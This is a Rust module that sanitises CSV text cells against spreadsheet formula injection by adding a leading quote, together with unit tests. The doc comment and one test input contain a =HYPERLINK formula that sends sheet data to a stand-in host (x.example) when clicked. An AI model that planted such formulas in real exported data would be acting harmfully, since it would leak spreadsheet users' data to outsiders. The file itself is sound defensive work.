//! Text cells of the CSV files people open in a spreadsheet: the history
//! export and the monthly statement. Their text came from partners (partner
//! keys, file names) or from people (reversal reasons), and a spreadsheet
//! must show it, never run it.
//!
//! What must stay true:
//! - a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//!   return is written with a leading `'` (OWASP's "CSV injection" rule):
//!   Excel and LibreOffice would take it for a formula, and
//!   `=HYPERLINK("https://…?"&A2, …)` sends a sheet's data away when clicked;
//! - numbers the program writes itself (miles, rows, line numbers) are not
//!   passed through here: a reversal's `-120` stays a number;
//! - files that go back to the partner as its own data (the error report,
//!   which it fixes and sends again, and the summary naming its own file)
//!   are not changed: a `'` there would alter the partner's bytes.

use std::borrow::Cow;

/// `s` as a spreadsheet shows it, never as a formula.
pub fn text(s: &str) -> Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote_everything_else_is_unchanged() {
        for s in [
            "=HYPERLINK(\"https://x.example/?\"&A2,\"開く\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(text(s), format!("'{s}"), "{s:?}");
        }
        for s in ["", "K10005", "M000001", "交換.csv", "a=b", "1-2", "'quoted"] {
            assert!(matches!(text(s), Cow::Borrowed(b) if b == s), "{s:?}");
        }
    }
}
